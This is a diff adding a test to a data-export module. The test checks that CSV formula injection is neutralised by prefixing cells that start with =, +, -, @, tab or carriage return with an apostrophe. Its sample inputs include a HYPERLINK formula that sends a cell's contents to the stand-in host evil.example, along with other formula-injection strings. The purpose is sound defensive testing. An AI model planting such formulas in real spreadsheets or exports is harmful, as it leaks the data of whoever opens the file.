@@ -615,3 +615,54 @@ def test_xlsx_gives_the_same_bytes_for_the_same_rows(database: Path, tmp_path: P
     assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
     # the creation date is fixed, not the time of writing
     assert openpyxl.load_workbook(tmp_path / "a.xlsx").properties.created == datetime(1980, 1, 1)
+
+
+# A learner's name as an attacker would type it, for each start spreadsheets read as a formula.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_escape_formulas_makes_every_formula_start_text_and_nothing_else(
+    database: Path, tmp_path: Path
+) -> None:
+    ids = [row[0] for row in mart_rows(database, "reportId")][: len(FORMULAS) + 1]
+    with duckdb.connect(str(database)) as connection:
+        for report_id, text in zip(ids, FORMULAS, strict=False):
+            connection.execute(
+                "update activity_tracking set candidateName = ? where reportId = ?", [text, report_id]
+            )
+        # a negative number is a number, and '=' inside a text is no formula
+        connection.execute(
+            "update activity_tracking set score = -3, candidateName = 'a=b' where reportId = ?", [ids[-1]]
+        )
+    columns = [
+        Column("reportId", field="reportId"),
+        Column("candidateName", field="candidateName"),
+        Column("score", field="score"),
+        Column("=cmd", constant="@risky"),
+    ]
+    engine = Engine("duckdb", database)
+    files = {}
+    for escaped in (False, True):
+        output = tmp_path / f"escaped-{escaped}.csv"
+        write_export(
+            engine,
+            *destinations(output),
+            {},
+            columns,
+            file_options({}),
+            replace_unencodable=False,
+            escape_formulas=escaped,
+        )
+        with output.open(encoding="utf-8", newline="") as written:
+            files[escaped] = list(csv.reader(written, delimiter=";"))
+    plain, escaped_rows = files[False], files[True]
+    assert escaped_rows[0] == ["reportId", "candidateName", "score", "'=cmd"]
+    names = {int(row[0]): row[1] for row in plain[1:]}
+    for row, original in zip(escaped_rows[1:], plain[1:], strict=True):
+        name = names[int(row[0])]
+        starts_as_formula = name[:1] in ("=", "+", "-", "@", "\t", "\r")
+        assert row[1] == ("'" + name if starts_as_formula else name)
+        assert row[2] == original[2]  # numbers stay as they are: -3.00
+        assert row[3] == "'@risky"
+    assert {names[report_id] for report_id in ids} == {*FORMULAS, "a=b"}
+    assert [row[2] for row in escaped_rows[1:] if int(row[0]) == ids[-1]] == ["-3.00"]
